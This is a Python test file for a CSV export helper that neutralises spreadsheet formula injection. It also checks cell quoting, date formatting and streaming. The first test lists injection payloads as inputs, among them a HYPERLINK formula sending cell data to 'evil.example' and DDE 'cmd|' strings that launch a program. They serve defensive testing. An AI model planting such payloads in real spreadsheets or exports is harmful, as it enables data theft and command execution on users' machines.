"""What people typed stays words when a list is opened in a spreadsheet."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest

from governance.csv_cells import csv_lines, safe_cell


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("http://evil.example?x="&A1,"Open")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\u00a0=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(A1)",
    ],
)
def test_what_a_spreadsheet_takes_for_a_formula_begins_with_an_apostrophe(typed: str) -> None:
    assert safe_cell(typed) == f"'{typed}"


@pytest.mark.parametrize("typed", ["", "Grant Writing", "1 = 1", "a-b", "Été", "'=1", "3 + 4", "n@kawartha.example"])
def test_other_words_stay_as_they_are(typed: str) -> None:
    assert safe_cell(typed) == typed


def test_numbers_and_days_stay_what_they_are() -> None:
    assert [safe_cell(value) for value in (-5, 0, Decimal("-1.5"), None, date(2026, 10, 16))] == [
        "-5",
        "0",
        "-1.5",
        "",
        "2026-10-16",
    ]
    # Noon in Toronto.
    assert safe_cell(datetime(2026, 10, 16, 16, 0, tzinfo=UTC)) == "2026-10-16T12:00-04:00"


def test_a_file_reads_back_as_what_was_given_whatever_is_in_a_cell() -> None:
    rows = [["MC-2026-0001", 'A "quoted", title; with\nlines', 3], ["MC-2026-0002", "=1+1", -1]]
    written = "".join(csv_lines(["Reference", "Title", "Days"], rows))
    assert written.startswith("\ufeff")
    assert list(csv.reader(io.StringIO(written[1:], newline=""))) == [
        ["Reference", "Title", "Days"],
        ["MC-2026-0001", 'A "quoted", title; with\nlines', "3"],
        ["MC-2026-0002", "'=1+1", "-1"],
    ]


def test_every_cell_is_quoted_so_that_a_semicolon_divides_nothing() -> None:
    (_mark, line) = csv_lines(["Title;=1+1", "Days"], [])
    assert line == '"Title;=1+1","Days"\r\n'


def test_a_long_list_is_sent_as_it_is_read() -> None:
    def endless() -> object:
        number = 0
        while True:
            number += 1
            yield [number]

    lines = csv_lines(["Number"], endless())  # type: ignore[arg-type]
    assert [next(lines) for _ in range(4)] == ["\ufeff", '"Number"\r\n', '"1"\r\n', '"2"\r\n']
